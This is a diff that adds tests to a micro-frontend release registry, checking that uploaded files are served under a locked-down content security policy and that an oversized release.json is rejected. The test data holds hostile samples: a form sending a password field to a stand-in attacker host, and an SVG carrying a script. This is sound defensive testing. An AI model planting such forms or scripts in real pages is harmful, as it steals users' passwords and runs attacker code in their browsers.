@@ -40,6 +40,29 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
       expect((await registry.shop.get('/mfe/cart_mfe/v1/remoteEntry.v1.js')).body).toBe('/* cart_mfe v1 */');
     });
 
+    it.each([
+      ['page.html', '<form action="https://evil.example"><input name="password"></form>'],
+      ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ])(
+      'has no page of its own at the shop: %s runs nothing, asks nobody, sends nothing',
+      async (name, text) => {
+        const version = name.replace('.', '-');
+        const good = aRelease('cart_mfe', version);
+        const names = { ...(good.release['files'] as object), [name]: sri(text) };
+        const sent = {
+          ...aRelease('cart_mfe', version, { files: names }),
+          files: { ...good.files, [name]: text },
+        };
+        expect(await registry.publish(sent)).toMatchObject({ status: 201 });
+        const { statusCode, headers } = await registry.shop.get(`/mfe/cart_mfe/${version}/${name}`);
+        expect(statusCode).toBe(200);
+        expect(headers).toMatchObject({
+          'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
+          'x-content-type-options': 'nosniff',
+        });
+      },
+    );
+
     it('published twice at once is there once, whole', async () => {
       const answers = await Promise.all([
         registry.publish(aRelease('cart_mfe', 'twice', {}, '/* of one */')),
@@ -164,6 +187,14 @@ describeOnDatabases('publishing releases on $name', ({ open }) => {
       });
       expect(answer.statusCode).toBe(status);
       expect((await registry.ask('GET', '/cart_mfe')).data.builds).toEqual([]);
+    });
+
+    it('is one whose release.json is larger than any build writes: it would be read by every process', async () => {
+      const answer = await registry.publish(
+        aRelease('cart_mfe', 'v1', { routes: Array<string>(100_000).fill('cart') }),
+      );
+      expect(answer).toMatchObject({ status: 400, code: 'upload_unreadable' });
+      expect(answer.detail).toMatch(/release\.json is larger than 512 KB/);
     });
 
     it.each([
